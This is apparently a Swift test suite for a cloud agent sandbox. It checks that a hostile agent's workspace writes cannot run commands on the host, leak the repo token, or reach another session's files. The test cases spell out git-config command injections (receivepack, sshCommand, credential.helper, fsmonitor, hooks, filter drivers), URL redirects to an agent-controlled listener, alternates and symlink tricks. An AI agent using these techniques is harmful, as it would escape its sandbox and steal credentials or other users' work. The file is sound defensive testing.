import CloudAgentTestSupport
import CloudAgentCore
@testable import CloudAgentSandbox
import Foundation
import Testing

/// The agent writes anything into its workspace, `.git` included. Each case below is what a
/// hostile agent would write to make the control plane run a command on the host, send the repo
/// token (or the work) to an address of its choosing, or read another session's or the host's
/// files, followed by an auto-commit. Every case must be harmless: nothing runs on the host (the
/// marker file, at a host path the sandbox cannot see, never appears), nothing connects to the
/// agent's address, the work reaches only the session's own repo URL, and nothing foreign reaches
/// it. Why it holds: git on the workspace runs only in the sandbox (which sees neither the marker's
/// directory nor other sessions), and the push goes from the control plane's own mirror, which
/// takes the work as a bundle — data that runs nothing and carries no configuration.
@Suite("Hostile workspaces", .enabled("bubblewrap is missing or cannot create namespaces on this machine") { await bwrapWorks() }, .processes)
struct HostileWorkspaceTests {
    /// A session prepared from a bare origin (its spec's URL) in the bwrap sandbox, a change
    /// waiting to be committed, and a marker path on the host outside every sandbox.
    struct Scene {
        let fixture: Fixture
        let id = SessionID()
        let origin: URL
        let marker: URL
        let listener: LoopbackListener
        let request: WorkspaceRequest

        static let token = "tok-HOSTILE-never-leaves-123"

        init() async throws {
            fixture = try Fixture(sandbox: .bwrap)
            let source = try await makeRepository(in: fixture.directory)
            origin = fixture.directory.path("origin.git")
            try await sh("git clone --quiet --bare \(source.path) \(origin.path)", in: fixture.directory.url)
            marker = fixture.directory.path("host-command-ran")
            listener = try LoopbackListener()
            request = fixture.request(id, repo: RepoSource(url: origin.path, token: Self.token))
            try await fixture.workspaces.prepare(request)
            try Data("work\n".utf8).write(to: workspace.appendingPathComponent("work.txt"))
        }

        var workspace: URL { fixture.layout.workspace(id) }
        var touch: String { "touch \(marker.path)" }
        var listenerURL: String { "http://127.0.0.1:\(listener.port)/repo.git" }

        /// What the agent would run in its workspace to write its configuration.
        func agent(_ script: String) async throws {
            try await sh(script, in: workspace)
        }

        func autoCommit() async -> AutoCommitOutcome {
            await fixture.workspaces.autoCommit(request, executionId: "exc_hostile", summary: "hostile")
        }

        /// The work branch as the session's origin has it (nil when it was never pushed).
        func pushedFiles() async -> String? {
            try? await sh("git ls-tree -r --name-only refs/heads/session/\(id)", in: origin)
        }
    }

    /// The configuration each case writes; `touch` and `listener` are the scene's.
    /// A case whose configuration breaks git inside the sandbox too is refused (auto-commit
    /// fails); the others commit and push as usual.
    static let refusedCases: Set<String> = ["filter process"]

    static let configurations: [(name: String, script: @Sendable (Scene) -> String)] = [
        ("remote.origin.receivepack", { "git config remote.origin.receivepack \"sh -c '\($0.touch)' #\"" }),
        ("remote.origin.uploadpack", { "git config remote.origin.uploadpack \"sh -c '\($0.touch)' #\"" }),
        (
            "remote.origin.pushurl and url to the agent's address",
            {
                "git config remote.origin.pushurl \($0.listenerURL) && git config remote.origin.url \($0.listenerURL)"
            }
        ),
        (
            "core.gitProxy with a git:// origin",
            {
                "printf '#!/bin/sh\\n\($0.touch)\\n' > proxy.sh && chmod +x proxy.sh && git config core.gitProxy \"$PWD/proxy.sh\" && git config remote.origin.url git://example.invalid/r.git"
            }
        ),
        (
            "core.sshCommand with an ssh:// origin",
            {
                "git config core.sshCommand \"sh -c '\($0.touch)' #\" && git config remote.origin.url ssh://git@example.invalid/r.git"
            }
        ),
        (
            "url.*.insteadOf redirecting the repo URL to the agent's address",
            {
                "git config url.\($0.listenerURL).insteadOf \($0.origin.path) && git config url.\($0.listenerURL).pushInsteadOf \($0.origin.path)"
            }
        ),
        (
            "http.proxy and an http origin",
            {
                "git config http.proxy http://127.0.0.1:\($0.listener.port) && git config remote.origin.url http://example.invalid/r.git"
            }
        ),
        (
            "a credential helper",
            {
                "git config credential.helper \"!\($0.touch)\" && git config remote.origin.url \($0.listenerURL)"
            }
        ),
        ("core.fsmonitor", { "git config core.fsmonitor \"\($0.touch)\"" }),
        (
            "core.hooksPath with hooks",
            {
                "mkdir -p hooks && for h in pre-commit post-commit pre-push reference-transaction post-index-change; do printf '#!/bin/sh\\n\($0.touch)\\n' > hooks/$h; chmod +x hooks/$h; done && git config core.hooksPath \"$PWD/hooks\""
            }
        ),
        (
            "hooks in .git/hooks",
            {
                "for h in pre-commit post-commit pre-push reference-transaction post-index-change; do printf '#!/bin/sh\\n\($0.touch)\\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done"
            }
        ),
        (
            "include.path to a file of the host's",
            {
                "printf '[core]\\n\\tfsmonitor = \($0.touch)\\n[remote \"origin\"]\\n\\treceivepack = \($0.touch) #\\n' > \($0.marker.path).inc && git config include.path \($0.marker.path).inc"
            }
        ),
        (
            "filter driver",
            {
                "echo '* filter=evil' > .gitattributes && git config filter.evil.clean \"\($0.touch); cat\" && git config filter.evil.smudge \"\($0.touch); cat\""
            }
        ),
        (
            "filter process",
            {
                "echo '* filter=evil' > .gitattributes && git config filter.evil.process \"\($0.touch)\" && git config filter.evil.required true"
            }
        ),
        (
            "diff driver, external diff and pager",
            {
                "echo '* diff=evil' > .gitattributes && git config diff.evil.command \"\($0.touch)\" && git config diff.external \"\($0.touch)\" && git config core.pager \"\($0.touch)\""
            }
        ),
    ]

    @Test(
        "git configuration: nothing runs on the host, nothing reaches the agent's address, the work reaches only the session's repo",
        arguments: configurations.indices)
    func hostileConfiguration(_ index: Int) async throws {
        let (name, script) = Self.configurations[index]
        let scene = try await Scene()
        defer { scene.listener.close() }
        try await scene.agent(script(scene))
        let outcome = await scene.autoCommit()
        #expect(!exists(scene.marker), "\(name): a command the workspace configured ran on the host")
        #expect(!scene.listener.hadConnection(), "\(name): git connected to the agent's address")
        #expect(!scene.fixture.logs.text.contains(Scene.token))
        if Self.refusedCases.contains(name) {
            if case .failed = outcome {} else { Issue.record("\(name): expected the commit to be refused, got \(outcome)") }
            #expect(await scene.pushedFiles() == nil)
            return
        }
        guard case .committed(_, let pushed, let pushError) = outcome else {
            Issue.record("\(name): \(outcome)")
            return
        }
        #expect(pushed, "\(name): \(pushError ?? "")")
        #expect(await scene.pushedFiles()?.contains("work.txt") == true, "\(name): the work did not reach the session's repo")
    }

    @Test("alternates into another session's objects: the sandbox cannot see them, and nothing of that session reaches this one's repo")
    func alternatesIntoAnotherSession() async throws {
        let scene = try await Scene()
        defer { scene.listener.close() }
        let other = SessionID()
        try await scene.fixture.workspaces.prepare(scene.fixture.request(other))
        let otherWorkspace = scene.fixture.layout.workspace(other)
        try Data("OTHER-SESSION-SECRET\n".utf8).write(to: otherWorkspace.appendingPathComponent("secret.txt"))
        try await sh("git add secret.txt && git -c user.name=o -c user.email=o@o commit -q -m secret", in: otherWorkspace)
        let foreignBlob = try await sh("git rev-parse HEAD:secret.txt", in: otherWorkspace).trimmingCharacters(in: .whitespacesAndNewlines)
        let foreignCommit = try await sh("git rev-parse HEAD", in: otherWorkspace).trimmingCharacters(in: .whitespacesAndNewlines)
        try await scene.agent(
            "echo \(otherWorkspace.path)/.git/objects > .git/objects/info/alternates && git update-ref refs/heads/stolen \(foreignCommit)"
        )
        _ = await scene.autoCommit()
        #expect((try? await sh("git cat-file -e \(foreignBlob)", in: scene.origin)) == nil, "another session's file reached this session's repo")
        #expect(!exists(scene.marker))
    }

    @Test(".git as a symlink to another session's repository: git in the sandbox cannot follow it; that repository is untouched")
    func gitDirectorySymlink() async throws {
        let scene = try await Scene()
        defer { scene.listener.close() }
        let other = SessionID()
        try await scene.fixture.workspaces.prepare(scene.fixture.request(other, repo: RepoSource(url: scene.origin.path)))
        let otherGit = scene.fixture.layout.workspace(other).appendingPathComponent(".git")
        let before = try await sh("git rev-parse HEAD", in: otherGit.deletingLastPathComponent())
        try await scene.agent("rm -rf .git && ln -s \(otherGit.path) .git")
        let outcome = await scene.autoCommit()
        if case .committed(_, true, _) = outcome { Issue.record("committed and pushed through another session's .git") }
        #expect(try await sh("git rev-parse HEAD", in: otherGit.deletingLastPathComponent()) == before)
        #expect(try await sh("git status --porcelain", in: otherGit.deletingLastPathComponent()).isEmpty)
        #expect(await scene.pushedFiles() == nil)
    }

    @Test("a symlink out of the workspace to a host file: pushed as a link, never with the file's contents; deleting the session leaves the file alone")
    func symlinkOutOfTheWorkspace() async throws {
        let scene = try await Scene()
        defer { scene.listener.close() }
        let hostFile = scene.fixture.directory.path("host-secret.txt")
        try Data("HOST-FILE-CONTENTS\n".utf8).write(to: hostFile)
        try await scene.agent("ln -s \(hostFile.path) leak.txt && ln -s / root-link")
        let outcome = await scene.autoCommit()
        guard case .committed(_, true, _) = outcome else {
            Issue.record("\(outcome)")
            return
        }
        let leaked = try await sh("git cat-file -p refs/heads/session/\(scene.id):leak.txt", in: scene.origin)
        #expect(leaked == hostFile.path, "the link, not the file: \(leaked)")
        scene.fixture.layout.remove(scene.id)
        #expect(contents(hostFile) == "HOST-FILE-CONTENTS\n")
        #expect(!exists(scene.workspace))
        #expect(!exists(scene.fixture.layout.mirror(scene.id)))
    }

    @Test("the workspace's origin is never where the work goes: the session's repo URL is")
    func pushGoesToTheSpecURL() async throws {
        let scene = try await Scene()
        defer { scene.listener.close() }
        let decoy = scene.fixture.directory.path("decoy.git")
        try await sh("git init --quiet --bare \(decoy.path)", in: scene.fixture.directory.url)
        try await scene.agent("git remote set-url origin \(decoy.path)")
        guard case .committed(_, true, _) = await scene.autoCommit() else {
            Issue.record("not pushed")
            return
        }
        #expect(await scene.pushedFiles()?.contains("work.txt") == true)
        #expect((try? await sh("git rev-parse --verify --quiet refs/heads/session/\(scene.id)", in: decoy)) == nil)
    }
}
